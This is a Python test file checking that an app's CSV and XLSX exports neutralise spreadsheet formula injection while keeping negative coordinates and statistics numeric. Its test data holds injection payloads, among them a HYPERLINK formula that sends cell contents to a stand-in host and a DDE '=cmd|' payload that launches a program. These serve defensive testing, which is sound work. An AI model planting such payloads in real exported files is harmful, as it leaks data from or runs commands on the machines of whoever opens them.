"""CSV and XLSX exports neutralise formula injection and leave numbers alone.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or a
carriage return, the same) as a formula: ``=HYPERLINK(...)`` leaks data, ``=cmd|...`` runs a
program on old Excel. Every export the app offers gets such text in its text columns, and
negative numbers (every longitude in Guinea) in its number columns; the file is read back as a
spreadsheet would read it.

The full-width forms (``＝＋－＠``) are not tested: Excel and LibreOffice only start a formula on
the ASCII characters when they open a file (the full-width ones are converted only while typing
with an input method), so prefixing them would only mangle text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

import geopandas as gpd
import shapely

from exchange import hotspots
from exchange.blackspots import BlackspotResult, to_file
from exchange.export import export, to_csv
from exchange.programme import export_programme
from geo.blackspots import SeverityWeights
from storage import Store
from storage.queries import IncidentFilter, Viewer
from storage.roads import CrashFilter

FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", '=HYPERLINK("http://192.0.2.7/?d="&A1;"clic")',
            "=cmd|' /C calc'!A0", "-")
#: A carriage return ends a row for a spreadsheet even inside an unquoted field, so what follows it starts
#: a new row: its first cell must not be a formula. (A line feed makes the writer quote the field already.)
LINE_BREAKS = ("\r=1+1", "Marché\r=1+1", "Marché\r\n=1+1", "Marché\n=1+1", "Marché\r@SUM(1;1)")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")
KALOUM = {"region_id": "GN-C", "prefecture_id": "GN-C", "subprefecture_id": "GN-C-KALOUM"}


def _cycle(n: int) -> list[str]:
    return [FORMULAS[i % len(FORMULAS)] for i in range(n)]


def csv_cells(data: bytes) -> list[list[str]]:
    """The cells a spreadsheet gets from a UTF-8 (BOM) CSV, header first."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula trigger first, and not a plain number."""
    return [cell for row in rows for cell in row if cell.startswith(TRIGGERS) and not _NUMBER.match(cell)]


def _column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def _assert_neutral(rows: list[list[str]], texts: dict[str, list[str]], numbers: dict[str, list[float]],
                    where: str) -> None:
    """No live formula; text columns hold the typed text behind one apostrophe; numbers unchanged."""
    assert live_formulas(rows) == [], f"{where}: formulas a spreadsheet would run: {live_formulas(rows)}"
    for name, typed in texts.items():
        shown = _column(rows, name)
        assert shown == ["'" + v if v.startswith(TRIGGERS) else v for v in typed], f"{where}: column {name}"
    for name, values in numbers.items():
        shown = _column(rows, name)
        assert all(_NUMBER.match(s) for s in shown), f"{where}: column {name} is no longer numeric: {shown}"
        np.testing.assert_allclose([float(s) for s in shown], values, err_msg=f"{where}: column {name}")


def test_the_check_finds_live_formulas_and_spares_numbers():
    rows = [["a", "b"], ["=1+1", "-13.7"], ["'=1+1", "-1e-05"], ["\t=x", "+5"]]
    assert live_formulas(rows) == ["=1+1", "\t=x"]


def _plain_frame(texts: list[str]) -> pd.DataFrame:
    n = len(texts)
    return pd.DataFrame({"rank": np.arange(1, n + 1), "cell": ["8865a84a6dfffff"] * n, "unit": texts,
                         "gi_z": np.linspace(-3.2, 2.5, n), "lon": np.full(n, -13.7)})


def _blackspot_rows(texts: list[str], folder: Path) -> list[list[str]]:
    n = len(texts)
    line = shapely.LineString([(-13.49, 9.70), (-13.48, 9.705)])
    table = gpd.GeoDataFrame({"rank": np.arange(1, n + 1), "road": texts, "lon": np.full(n, -13.485)},
                             geometry=[line] * n, crs="EPSG:4326")
    path = folder / "black.csv"
    to_file(BlackspotResult(table, "roads", SeverityWeights(), CrashFilter(), n, 0, {}), path)
    return csv_cells(path.read_bytes())


#: Every CSV writer the app offers, fed a frame with a text column, as the cells a spreadsheet reads.
CSV_WRITERS = {
    "export.to_csv": lambda texts, _: csv_cells(to_csv(_plain_frame(texts))),
    "export.export": lambda texts, _: csv_cells(export(_plain_frame(texts), "csv")[0]),
    "hotspots.to_bytes": lambda texts, _: csv_cells(hotspots.to_bytes(_plain_frame(texts), "csv")[0]),
    "blackspots.to_file": _blackspot_rows,
}


@pytest.mark.parametrize("writer", sorted(CSV_WRITERS))
def test_a_line_break_inside_text_starts_no_row_with_a_formula(writer, tmp_path):
    """``Marché\\r=1+1`` must stay one cell: written unquoted, a spreadsheet reads ``=1+1`` as a new row."""
    rows = CSV_WRITERS[writer](list(LINE_BREAKS), tmp_path)
    assert live_formulas(rows) == [], f"{writer}: formulas a spreadsheet would run: {live_formulas(rows)}"
    assert len(rows) == 1 + len(LINE_BREAKS), f"{writer}: a line break inside a value split a row"


# --- incident export ----------------------------------------------------------------------------------

def _incidents(n: int) -> pd.DataFrame:
    return pd.DataFrame({
        "occurred_at": pd.date_range("2026-01-05", periods=n, freq="D", tz="UTC"), "category": ["vol"] * n,
        "description": _cycle(n), "place_name": list(reversed(_cycle(n))), "source_id": _cycle(n),
        "lon": np.linspace(-13.71, -13.60, n), "lat": np.linspace(9.50, 9.60, n), "precision": ["point"] * n,
        "severity": [1, 2] * (n // 2), **{k: [v] * n for k, v in KALOUM.items()},
    })


def test_incident_csv_export_neutralises_text_and_keeps_negative_coordinates(sqlite_store: Store):
    frame = _incidents(8)
    sqlite_store.write({"incident": frame}, kind="test")
    points = sqlite_store.incident_points(IncidentFilter(), Viewer()).sort_values("occurred_at")
    data, mime = export(points, "csv")
    assert mime == "text/csv"
    _assert_neutral(csv_cells(data), {c: frame[c].tolist() for c in ("description", "place_name", "source_id")},
                    {"lon": frame["lon"].tolist(), "lat": frame["lat"].tolist()}, "incident export")


def test_to_csv_neutralises_every_text_dtype():
    """Object, pandas string and categorical columns all reach a spreadsheet as text."""
    values = list(FORMULAS)
    frame = pd.DataFrame({"obj": pd.Series(values, dtype=object), "str": pd.Series(values, dtype="string"),
                          "cat": pd.Series(values, dtype="category"), "neg": -np.arange(1, len(values) + 1) / 4,
                          "int": -np.arange(len(values))})
    rows = csv_cells(to_csv(frame))
    _assert_neutral(rows, {"obj": values, "str": values, "cat": values},
                    {"neg": frame["neg"].tolist(), "int": frame["int"].tolist()}, "to_csv")


# --- programme export (CSV and XLSX) ------------------------------------------------------------------

def _programme(n: int) -> dict[str, pd.DataFrame]:
    station = pd.DataFrame({"id": range(1, n + 1), "name": _cycle(n), "kind": ["poste"] * n, "contact": _cycle(n),
                            "lon": np.linspace(-13.71, -13.69, n), "lat": [9.51] * n, **{k: [v] * n for k, v in
                                                                                         KALOUM.items()}})
    council = pd.DataFrame({"id": [1], "name": ["=1+1"], "unit_level": ["subprefecture"], "unit_id": ["GN-C-KALOUM"],
                            "chair_name": ["@SUM(1;1)"], **{k: [v] for k, v in KALOUM.items()}})
    meeting = pd.DataFrame({"id": range(1, n + 1), "council_id": [1] * n,
                            "held_on": [dt.date(2026, 1, 1) + dt.timedelta(days=i) for i in range(n)],
                            "topics": _cycle(n), "decisions": list(reversed(_cycle(n)))})
    instructor = pd.DataFrame({"id": [1, 2], "name": ["-1+1", "+1+1"]})
    training = pd.DataFrame({"id": [1], "community_name": ["=cmd|' /C calc'!A0"], "start_on": [dt.date(2025, 1, 1)],
                             "end_on": [dt.date(2025, 1, 3)], "module": ["doctrine"], "officers_trained": [3],
                             **{k: [v] for k, v in KALOUM.items()}})
    links = pd.DataFrame({"training_id": [1, 1], "instructor_id": [1, 2]})
    return {"station": station, "council": council, "council_meeting": meeting, "instructor": instructor,
            "training": training, "training_instructor": links}


@pytest.fixture()
def programme_frames(sqlite_store: Store) -> dict[str, pd.DataFrame]:
    sqlite_store.write(_programme(8), kind="test")
    return sqlite_store.programme_frames()


TEXT_COLUMNS = {"station": ("name", "contact"), "council": ("name", "chair_name"),
                "council_meeting": ("topics", "decisions", "council_name"), "training": ("community_name",
                                                                                         "instructors")}


@pytest.mark.parametrize("table", sorted(TEXT_COLUMNS))
def test_programme_csv_export_is_neutral(programme_frames, table):
    rows = csv_cells(export_programme(programme_frames, table, "csv"))
    assert live_formulas(rows) == [], f"{table}: {live_formulas(rows)}"
    for name in TEXT_COLUMNS[table]:
        assert any(cell.startswith("'") for cell in _column(rows, name)), f"{table}.{name} holds no typed formula"
    if table == "station":
        np.testing.assert_allclose([float(v) for v in _column(rows, "lon")],
                                   programme_frames["station"]["lon"].to_numpy())


def xlsx_formulas(data: bytes) -> list[str]:
    """Cells of every sheet that Excel would evaluate (stored as formulas)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{cell.coordinate}={cell.value!r}" for ws in book.worksheets for row in ws.iter_rows()
            for cell in row if cell.data_type == "f"]


def test_the_xlsx_check_finds_a_formula():
    frame = pd.DataFrame({"a": ["=1+1"]})
    buffer = io.BytesIO()
    frame.to_excel(buffer, index=False)  # pandas' plain writer stores the text as a formula
    assert xlsx_formulas(buffer.getvalue()) == ["Sheet1!A2='=1+1'"]


@pytest.mark.parametrize("table", sorted(TEXT_COLUMNS))
def test_programme_xlsx_export_is_neutral_and_keeps_numbers(programme_frames, table):
    data = export_programme(programme_frames, table, "xlsx")
    assert xlsx_formulas(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    header = [c.value for c in sheet[1]]
    for name in TEXT_COLUMNS[table]:
        values = [row[header.index(name)] for row in sheet.iter_rows(min_row=2, values_only=True)]
        typed = [v for v in values if isinstance(v, str) and v.startswith("'")]
        assert typed, f"{table}.{name}: no neutralised formula among {values}"
        assert not [v for v in values if isinstance(v, str) and v.startswith(TRIGGERS)]
    if table == "station":
        lon = [row[header.index("lon")] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert all(isinstance(v, float) and v < 0 for v in lon), lon


# --- analysis exports ---------------------------------------------------------------------------------

def test_hotspot_csv_keeps_negative_statistics_and_neutralises_text():
    n = len(FORMULAS)
    table = pd.DataFrame({"cell": ["8865a84a6dfffff"] * n, "count": np.arange(n), "gi_z": np.linspace(-3.2, 2.5, n),
                          "gi_p": np.full(n, 0.01), "gi_bin": [-3, -2, -1, 0, 1, 2, 3, 0], "unit": list(FORMULAS),
                          "lon": np.full(n, -13.7), "lat": np.full(n, 9.5)})
    data, mime = hotspots.to_bytes(table, "csv")
    assert mime == "text/csv"
    _assert_neutral(csv_cells(data), {"unit": list(FORMULAS)},
                    {c: table[c].tolist() for c in ("gi_z", "gi_bin", "lon")}, "hotspots.to_bytes")


def test_blackspot_csv_file_is_neutral(tmp_path: Path):
    n = len(FORMULAS)
    line = shapely.LineString([(-13.49, 9.70), (-13.48, 9.705)])
    table = gpd.GeoDataFrame({
        "rank": np.arange(1, n + 1), "spot": np.arange(n, dtype=np.uint64) + np.uint64(2**63),
        "road": list(FORMULAS), "place": list(reversed(FORMULAS)), "crashes": np.arange(n),
        "epdo": np.linspace(1, 9, n), "trend_z": np.linspace(-2.0, 2.0, n), "lon": np.full(n, -13.485),
        "lat": np.full(n, 9.702)},
        geometry=[line] * n, crs="EPSG:4326")
    result = BlackspotResult(table, "roads", SeverityWeights(), CrashFilter(), n_crashes=n, n_demo=0, unassigned={})
    path = tmp_path / "black.csv"
    to_file(result, path)
    rows = csv_cells(path.read_bytes())
    _assert_neutral(rows, {"road": list(FORMULAS), "place": list(reversed(FORMULAS))},
                    {"trend_z": table["trend_z"].tolist(), "lon": table["lon"].tolist()}, "blackspots.to_file")
    assert _column(rows, "spot")[0] == str(2**63)  # ids past int64 stay exact text, not a float
